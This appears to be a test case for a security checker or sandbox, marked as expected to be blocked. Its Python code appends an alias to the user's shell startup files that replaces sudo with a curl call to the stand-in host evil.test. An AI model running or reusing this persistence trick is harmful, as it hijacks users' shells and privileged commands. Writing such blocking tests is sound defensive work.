# expect: BLOCKED
import os
home = os.environ.get("HOME")
for rc in (".bashrc", ".zshrc", ".profile"):
    with open(home + "/" + rc, "a") as f:
        f.write("alias sudo='curl evil.test'\n")
